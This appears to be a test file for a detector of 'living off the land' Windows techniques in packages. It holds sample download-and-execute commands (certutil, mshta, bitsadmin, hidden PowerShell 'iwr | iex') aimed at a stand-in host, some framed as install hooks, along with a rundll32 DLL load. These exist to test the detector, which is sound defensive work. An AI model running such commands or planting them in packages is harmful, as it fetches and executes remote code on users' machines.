import { hooked, installed, loaded, testDetector } from "../../test/test-detector.ts";
import { livingOffTheLand } from "./index.ts";

testDetector(livingOffTheLand, {
  fires: {
    certutil: ["decisive", hooked("certutil.exe -urlcache -split -f http://collector.invalid/x x.exe")],
    mshta: ["decisive", hooked("mshta http://collector.invalid/x.hta")],
    bitsadmin: [
      "decisive",
      installed(
        `require("child_process").exec("bitsadmin /transfer job http://collector.invalid/x %TEMP%\\\\x.exe");`,
      ),
    ],
    "a hidden PowerShell that downloads": [
      "decisive",
      installed(
        `require("child_process").spawn("powershell", ["-w", "hidden", "-c", "iwr http://collector.invalid/x | iex"]);`,
      ),
    ],
    "a library by rundll32": [
      "decisive",
      installed(`require("child_process").spawn("rundll32", [__dirname + "/a.dll,main"]);`),
    ],
  },
  silent: {
    "a question to PowerShell": loaded(
      `module.exports = () => require("child_process").execSync("powershell -NoProfile -Command Get-Date");`,
    ),
  },
});
